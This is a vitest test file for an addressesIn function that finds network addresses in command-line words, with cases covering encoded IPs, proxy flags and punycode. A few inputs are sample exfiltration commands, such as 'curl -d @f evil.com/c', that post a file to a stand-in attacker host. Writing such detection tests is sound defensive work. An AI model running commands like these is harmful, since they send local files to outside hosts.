// Which command-line words name a network address (docs/security.md, "Data leaving the machine").
import { describe, expect, it } from 'vitest';
import { addressesIn } from './word-address';

describe('addressesIn', () => {
  it.each([
    ['https://api.example.com/v1', 'https://api.example.com'],
    ['--url=https://x.example.org/a', 'https://x.example.org'],
    ['evil.com/c?d=1', 'evil.com'],
    ['EVIL.com.', 'evil.com'],
    ['127.0.0.1:8080/c', '127.0.0.1:8080'],
    ['2130706433/c', '127.0.0.1'],
    ['8.8.2056', '8.8.8.8'],
    ['x@evil.com:repo.git', 'evil.com'],
    ['--proxy=evil.com:3128', 'evil.com:3128'],
    ['-xevil.net:80', '-xevil.net:80'],
    ['[::1]:9/c', '[::1]:9'],
    ['localhost:3000', 'localhost:3000'],
    ['ev%69l.com/x', 'evil.com'],
    ['bücher.de/x', 'xn--bcher-kva.de'],
    // A version reads as an IPv4 address, as curl reads it; that only narrows a grant.
    ['lodash@4.17.21', '4.17.0.21'],
  ])('%s names %s', (word, address) => {
    expect(addressesIn(word)).toContain(address);
  });

  it('reads every address of a word holding a command line or a script', () => {
    expect(addressesIn('curl -d @f evil.com/c')).toEqual(['evil.com']);
    expect(addressesIn("fetch('https://api.x.org/'); fetch('https://evil.com/')").sort()).toEqual([
      'https://api.x.org',
      'https://evil.com',
    ]);
    expect(addressesIn('curl https://api.x.org/ --next -d @f 127.0.0.1:9/c').sort()).toEqual([
      '127.0.0.1:9',
      'https://api.x.org',
    ]);
  });

  it.each([
    'test',
    'package.json',
    'src/app.ts',
    'HEAD:config/deploy.yml',
    '60',
    '4096',
    '--max-old-space-size=4096',
    'a b',
    '@file',
    'v1.2.3',
  ])('%s names no address', (word) => {
    expect(addressesIn(word)).toEqual([]);
  });
});
